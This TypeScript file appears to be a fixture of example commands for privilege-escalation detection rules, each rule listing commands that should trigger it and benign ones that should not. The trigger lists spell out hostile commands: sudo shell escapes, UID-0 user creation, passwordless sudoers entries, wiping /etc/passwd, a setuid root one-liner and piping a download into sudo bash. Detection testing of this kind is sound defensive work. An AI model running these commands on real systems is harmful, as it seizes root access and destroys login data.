import type { RuleExamples } from './rule-examples.ts';

export const PRIVILEGE_EXAMPLES: RuleExamples = {
  'privilege.group-admin': {
    fires: ['useradd -o -u 0 evil', 'usermod -aG sudo evil', 'usermod -aG docker user'],
    silent: ['gpasswd --help', 'usermod --help', 'dscl . -list /Users', 'useradd -m bob'],
  },
  'privilege.login-files': {
    fires: [
      'truncate -s 0 /etc/passwd',
      '> /etc/passwd',
      'cat /dev/null > /etc/shadow',
      'echo "user ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers',
      'echo x >> /etc/pam.d/sshd',
      "echo 'evil::0:0::/root:/bin/sh' >> /etc/passwd",
      'touch -acmr /etc/passwd evil',
      'echo "user ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/x',
    ],
    silent: [
      'sudo find /etc -name x',
      'sudo apt update && sudo apt upgrade -y',
      'sudo apt-get install -y build-essential',
      'sudo vim /etc/hosts',
    ],
  },
  'privilege.program-hook': {
    fires: [
      "sudo vim -c ':!/bin/sh'",
      'sudo awk \'BEGIN {system("/bin/sh")}\'',
      'sudo find . -exec /bin/sh \\; -quit',
      'sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh',
      "sudo make -s --eval=$'x:\\n\\t-/bin/sh'",
      'sudo nmap --script=/tmp/x.nse',
      "sudo mysql -e '\\! /bin/sh'",
      "sudo sqlite3 /dev/null '.shell /bin/sh'",
    ],
    silent: ['pip install requests', 'mount /dev/sdb1 /mnt', 'apt-get remove cowsay', 'ssh -L 8080:localhost:80 host'],
  },
  'privilege.ptrace-or-exploit': {
    fires: ['./dirtycow'],
    silent: [
      'sudo find /etc -name x',
      'sudo apt update && sudo apt upgrade -y',
      'sudo apt-get install -y build-essential',
      'sudo vim /etc/hosts',
    ],
  },
  'privilege.root-shell': {
    fires: [
      'sudo chroot / /bin/sh',
      'sudo pry',
      'sudo sg root',
      'curl -fsSL https://get.example.com | sudo bash',
      'sudo su',
      'sudo bash',
      'sudo sh',
      "sudo vim -c ':!/bin/sh'",
      'sudo awk \'BEGIN {system("/bin/sh")}\'',
      'sudo find . -exec /bin/sh \\; -quit',
      'sudo python -c \'import os; os.system("/bin/sh")\'',
    ],
    silent: [
      'sudo find /etc -name x',
      'sudo apt update && sudo apt upgrade -y',
      'sudo apt-get install -y build-essential',
      'sudo vim /etc/hosts',
    ],
  },
  'privilege.setuid-code': {
    fires: ['python -c \'import os; os.setuid(0); os.system("sh")\''],
    silent: ["python -c 'import os; print(os.getuid())'", 'gdb ./a.out', 'kubectl describe node x', 'pkill node'],
  },
  'privilege.shell-escape': {
    fires: [
      'sudo service ../../bin/sh',
      "sudo vim -c ':!/bin/sh'",
      'sudo awk \'BEGIN {system("/bin/sh")}\'',
      'sudo find . -exec /bin/sh \\; -quit',
      'sudo python -c \'import os; os.system("/bin/sh")\'',
      'sudo perl -e \'exec "/bin/sh";\'',
      'sudo ruby -e \'exec "/bin/sh"\'',
      'sudo lua -e \'os.execute("/bin/sh")\'',
      'sudo node -e \'require("child_process").spawn("/bin/sh", {stdio: [0, 1, 2]})\'',
    ],
    silent: [
      'sudo find /etc -name x',
      'sudo apt update && sudo apt upgrade -y',
      'sudo apt-get install -y build-essential',
      'sudo vim /etc/hosts',
    ],
  },
  'privilege.sudo-cache': {
    fires: ['rm -f /var/run/sudo/ts/bob'],
    silent: ['touch x', 'rm file', 'touch -c x', 'cat <<EOF > script.sh\nrm -rf /\nEOF'],
  },
  'privilege.sudoers-text': {
    fires: ['echo "user ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers'],
    silent: [
      'sudo find /etc -name x',
      'sudo apt update && sudo apt upgrade -y',
      'sudo apt-get install -y build-essential',
      'sudo vim /etc/hosts',
    ],
  },
  'privilege.switch-user': {
    fires: ['sudo su', 'sudo -i', 'sudo -s', 'su - deploy', 'sudo su - postgres'],
    silent: ['tee notes.md <<EOF\nsudo rm -rf /\nEOF', 'sudo apt update && sudo apt upgrade -y'],
  },
  'privilege.uid-zero': {
    fires: ['useradd -o -u 0 evil'],
    silent: ['usermod --help', 'useradd -m bob', 'sudo adduser bob'],
  },
};
